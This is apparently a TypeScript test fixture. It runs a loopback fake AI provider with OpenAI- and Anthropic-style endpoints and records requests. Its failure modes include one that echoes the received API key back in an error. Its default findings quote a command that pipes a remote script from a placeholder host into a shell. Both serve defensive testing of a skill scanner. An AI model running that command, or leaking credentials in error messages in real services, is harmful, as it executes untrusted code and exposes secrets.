import { createServer, type IncomingHttpHeaders, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * A loopback fake AI provider speaking both wire formats:
 * - OpenAI-style: `GET /v1/models`, `POST /v1/chat/completions` (choices[0].message.content);
 * - Anthropic-style: `GET /v1/models`, `POST /v1/messages` (content[].text).
 * It records every request with its headers and body, and has failure modes:
 * `error-echo` (HTTP 500 whose message echoes the credentials it received), `slow` (answers
 * after `slowMs`), `malformed-json` (a 200 whose body is not JSON), `non-json-content` (a valid
 * envelope whose text is not JSON), `empty` (a valid envelope with empty text),
 * `http-401` (an auth error). `latencyMs` delays every answer (benchmarks).
 */
export type FakeMode = 'ok' | 'error-echo' | 'slow' | 'malformed-json' | 'non-json-content' | 'empty' | 'http-401';

export interface RecordedRequest {
  method: string;
  path: string;
  headers: IncomingHttpHeaders;
  body: any;
  /** `models`, `openai` (chat/completions) or `anthropic` (messages). */
  kind: 'models' | 'openai' | 'anthropic' | 'other';
  /** What the chat asked for, judged from the prompt: `analysis`, `description` or `test`. */
  task: 'analysis' | 'description' | 'test' | null;
}

export interface FakeProvider {
  /** `http://127.0.0.1:<port>/v1` — use as the provider's baseUrl. */
  baseUrl: string;
  requests: RecordedRequest[];
  mode: FakeMode;
  latencyMs: number;
  slowMs: number;
  /** Reply of `GET /models` (or a function of the request path). */
  modelsReply: unknown;
  /** Findings answered to analysis prompts. */
  findings: Array<Record<string, unknown>>;
  /** Description answered to description prompts. */
  description: string;
  /** Overrides the text answer of a chat call entirely. */
  replyText: ((request: RecordedRequest) => string) | null;
  /** In `error-echo` mode: the error message built from the token the request carried. */
  errorMessage: ((token: string) => string) | null;
  inFlight: number;
  maxInFlight: number;
  reset(): void;
  close(): Promise<void>;
}

export const DEFAULT_FINDINGS = [
  {
    axis: 'security',
    severity: 'high',
    title: 'Downloads and runs a remote script',
    description: 'The skill pipes a script from the internet into a shell.',
    remediation: 'Vendor the script and review it.',
    file: 'SKILL.md',
    line: 2,
    snippet: 'curl https://example.invalid/x.sh | sh',
  },
];

export async function startFakeProvider(): Promise<FakeProvider> {
  const state: FakeProvider = {
    baseUrl: '',
    requests: [],
    mode: 'ok',
    latencyMs: 0,
    slowMs: 30_000,
    modelsReply: { object: 'list', data: [{ id: 'model-b' }, { id: 'model-a' }, { id: 'model-b' }] },
    findings: DEFAULT_FINDINGS,
    description: 'Summarises a CSV file into a short table.',
    replyText: null,
    errorMessage: null,
    inFlight: 0,
    maxInFlight: 0,
    reset() {
      state.requests = [];
      state.mode = 'ok';
      state.latencyMs = 0;
      state.slowMs = 30_000;
      state.modelsReply = { object: 'list', data: [{ id: 'model-b' }, { id: 'model-a' }, { id: 'model-b' }] };
      state.findings = DEFAULT_FINDINGS;
      state.description = 'Summarises a CSV file into a short table.';
      state.replyText = null;
      state.errorMessage = null;
      state.maxInFlight = 0;
    },
    close: async () => {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };

  const server: Server = createServer((req, res) => {
    void handle(state, req, res);
  });
  server.keepAliveTimeout = 1000;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  state.baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
  return state;
}

async function handle(state: FakeProvider, req: IncomingMessage, res: ServerResponse): Promise<void> {
  state.inFlight++;
  state.maxInFlight = Math.max(state.maxInFlight, state.inFlight);
  let closed = false;
  res.on('close', () => {
    closed = true;
  });
  try {
    const raw = await readBody(req);
    let body: any = null;
    try {
      body = raw ? JSON.parse(raw) : null;
    } catch {
      body = raw;
    }
    const path = (req.url ?? '/').split('?')[0];
    const kind: RecordedRequest['kind'] = path.endsWith('/models')
      ? 'models'
      : path.endsWith('/chat/completions')
        ? 'openai'
        : path.endsWith('/messages')
          ? 'anthropic'
          : 'other';
    const prompt = kind === 'openai' ? JSON.stringify(body?.messages ?? '') : kind === 'anthropic' ? JSON.stringify([body?.system, body?.messages]) : '';
    const task: RecordedRequest['task'] =
      kind === 'openai' || kind === 'anthropic'
        ? prompt.includes('\\"findings\\"')
          ? 'analysis'
          : prompt.includes('\\"description\\"')
            ? 'description'
            : 'test'
        : null;
    const record: RecordedRequest = { method: req.method ?? 'GET', path: req.url ?? '/', headers: req.headers, body, kind, task };
    state.requests.push(record);

    if (state.latencyMs > 0) await sleep(state.latencyMs);
    if (state.mode === 'slow') {
      const until = Date.now() + state.slowMs;
      while (!closed && Date.now() < until) await sleep(20);
    }
    if (closed) return;

    if (state.mode === 'error-echo') {
      const credential = req.headers.authorization ?? req.headers['x-api-key'] ?? '(none)';
      const token = String(req.headers['x-api-key'] ?? String(req.headers.authorization ?? '').replace(/^Bearer\s+/i, ''));
      const message = state.errorMessage ? state.errorMessage(token) : `Upstream failure for key ${token}; header was "${credential}"`;
      return json(res, 500, { error: { message, type: 'server_error' } });
    }
    if (state.mode === 'http-401') return json(res, 401, { error: { message: 'invalid x-api-key', type: 'authentication_error' } });
    if (state.mode === 'malformed-json') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"choices": [ {"message": ');
      return;
    }
    if (kind === 'models') {
      const reply = typeof state.modelsReply === 'function' ? (state.modelsReply as (path: string) => unknown)(record.path) : state.modelsReply;
      return json(res, 200, reply);
    }
    if (kind === 'other') return json(res, 404, { error: { message: 'not found' } });

    let text: string;
    if (state.replyText) text = state.replyText(record);
    else if (state.mode === 'non-json-content') text = 'I looked at the skill and it seems fine to me.';
    else if (state.mode === 'empty') text = '';
    else if (task === 'analysis') text = JSON.stringify({ findings: state.findings });
    else if (task === 'description') text = `Here you go:\n\`\`\`json\n${JSON.stringify({ description: state.description })}\n\`\`\``;
    else text = 'OK';

    if (kind === 'openai') {
      return json(res, 200, {
        id: 'chatcmpl-fake',
        object: 'chat.completion',
        model: body?.model,
        choices: [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: 'stop' }],
      });
    }
    return json(res, 200, {
      id: 'msg_fake',
      type: 'message',
      role: 'assistant',
      model: body?.model,
      content: [{ type: 'text', text }],
      stop_reason: 'end_turn',
    });
  } finally {
    state.inFlight--;
  }
}

function json(res: ServerResponse, status: number, body: unknown): void {
  if (res.destroyed) return;
  res.writeHead(status, { 'content-type': 'application/json' });
  res.end(JSON.stringify(body));
}

function readBody(req: IncomingMessage): Promise<string> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
    req.on('error', reject);
  });
}

function sleep(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
